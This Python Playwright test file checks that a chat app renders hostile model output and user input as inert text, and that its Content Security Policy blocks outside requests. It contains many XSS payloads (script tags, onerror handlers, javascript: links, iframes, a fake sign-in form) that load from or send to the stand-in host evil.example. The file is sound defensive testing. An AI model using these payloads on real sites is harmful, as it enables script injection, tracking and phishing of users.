"""Nothing that a model or a person writes is trusted. The watch fails a test in which anything runs or is loaded."""

import re

import pytest
from playwright.sync_api import Locator, Page, expect

from chat.markdown import TAGS
from tests.browser.conftest import Watch
from tests.browser.pages import answer, ask, button, expect_end, question, words
from tests.test_markdown import HOSTILE
from tests.upstream import Upstream, finish, pause, reasoning, text

pytestmark = pytest.mark.chromium

LIVELY = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=https://evil.example/pixel.png onerror=alert(1)>",
    "![pixel](https://evil.example/pixel.png)",
    "[![pixel](https://evil.example/pixel.png)](https://evil.example)",
    "<svg onload=alert(1)></svg>",
    "<style>@import url(https://evil.example/x.css); * { display: none }</style>",
    '<p style="background: url(https://evil.example/)">x</p>',
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><button autofocus>Sign in</button></form>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "</div></article></template><script>alert(1)</script>",
    "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>)",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| ![x](https://evil.example/cell.png) |",
    "    <script>alert(1)</script>",
]
FENCES = """
```html
<script>alert(1)</script>
```

```"><script>alert(1)</script>
x
```

```js
</code></pre><img src=x>
"""
NESTED = "\n\n".join(["> " * 19 + "quoted", "[" * 500 + "x" + "](https://y.example)" * 500, "*a **b " * 500])
# What ends in the middle of a block would swallow what follows.
WHOLE = [hostile for hostile in HOSTILE if len(hostile) < 1000 and not re.search("```|~~~", hostile)]


def elements(locator: Locator) -> set[str]:
    names: list[str] = locator.evaluate(
        "element => [...element.querySelectorAll('*')].map(({ localName }) => localName)"
    )
    return set(names)


def attributes(locator: Locator) -> set[str]:
    names: list[str] = locator.evaluate(
        "element => [...element.querySelectorAll('*')].flatMap(e => e.getAttributeNames())"
    )
    return set(names)


def addresses(locator: Locator) -> list[str]:
    found: list[str] = locator.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    return found


def expect_harmless(text: Locator) -> None:
    assert elements(text) <= TAGS
    assert not {name for name in attributes(text) if name.startswith("on")} | attributes(text) & {"style", "src", "id"}
    assert all(address.startswith(("https://", "http://", "mailto:")) for address in addresses(text))


@pytest.mark.parametrize(
    "hostile",
    ["\n\n".join(LIVELY), "\n\n".join(WHOLE), FENCES, NESTED],
    ids=["what would run or load", "what the renderer knows", "code", "nested"],
)
def test_hostile_markdown_is_harmless_live_and_stored(alice: Page, upstream: Upstream, hostile: str) -> None:
    pieces = re.findall(r"(?s).{1,40}", hostile)
    upstream.script(*map(text, pieces), text("\n\nThe end."), pause("end"), finish())
    ask(alice, "Do your worst.")
    expect(words(alice)).to_contain_text("The end.")
    expect_harmless(words(alice))
    upstream.release("end")
    expect_end(alice, "complete")
    expect_harmless(words(alice))
    alice.reload()
    expect(words(alice)).to_contain_text("The end.")
    expect_harmless(words(alice))


def test_a_hostile_question_is_plain_text_everywhere(alice: Page) -> None:
    hostile = "<img src=x onerror=alert(1)>\"'</title><script>alert(1)</script> [x](javascript:alert(1))"
    ask(alice, hostile)
    expect_end(alice, "complete")
    expect(alice.locator("[data-role=user] [data-text]")).to_have_text(hostile)
    expect(alice.locator("[data-role=user] [data-text] :not(p)")).to_have_count(0)
    expect(alice).to_have_title(re.compile(f"^{re.escape(hostile[:60])}"))
    entry = alice.get_by_role("navigation", name="History").get_by_role("link").first
    expect(entry).to_contain_text(hostile[:60])
    alice.locator("[data-options]").click()
    button(alice, "Delete").click()
    expect(alice.locator("[data-deleted-notice]")).to_contain_text(hostile[:60])


def test_hostile_thinking_and_a_hostile_draft_are_plain_text(alice: Page, upstream: Upstream) -> None:
    hostile = "<img src=x onerror=alert(1)><script>alert(1)</script></template></details>"
    upstream.script(reasoning(hostile), text("Done."), finish())
    ask(alice, "Think.")
    expect_end(alice, "complete")
    expect(answer(alice).locator("[data-reasoning-text]")).to_have_text(hostile)
    question(alice).fill(f"</textarea>{hostile}")
    alice.reload()
    expect(question(alice)).to_have_value(f"</textarea>{hostile}")


def test_endless_nesting_does_not_keep_a_reply_from_its_end(alice: Page, upstream: Upstream) -> None:
    upstream.script(text("The start.\n\n"), *map(text, ["> " * 5000, "- " * 5000, "[" * 5000, "*_" * 5000]), finish())
    ask(alice, "Deeper, please.")
    expect_end(alice, "complete")
    expect(words(alice)).to_contain_text("The start.")
    expect_harmless(words(alice))


# The policy, should anything get through all the same


LOADING = ["<img src=https://evil.example/pixel.png>", "<link rel=stylesheet href=https://evil.example/x.css>"]
RUNNING = [
    "<img src=x: onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<p style='color: red'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>",
]


def test_the_policy_lets_no_request_leave(alice: Page, watch: Watch) -> None:
    watch.expect("Content Security Policy", "evil.example")
    for html in LOADING:
        with alice.expect_event("requestfailed", lambda request: "evil.example" in request.url) as failed:
            put_on(alice, html)
        assert failed.value.failure == "csp"
        alice.reload()


def test_the_policy_lets_nothing_run_and_nothing_be_embedded(alice: Page, watch: Watch) -> None:
    watch.expect("Content Security Policy")
    for html in RUNNING:
        with alice.expect_console_message(lambda message: "Content Security Policy" in message.text):
            put_on(alice, html)
        # What one of them still says is not taken for the next one's.
        alice.reload()


def put_on(page: Page, html: str) -> None:
    page.locator("main").evaluate(
        "(main, html) => { main.insertAdjacentHTML('beforeend', html); main.lastElementChild.click(); }", html
    )
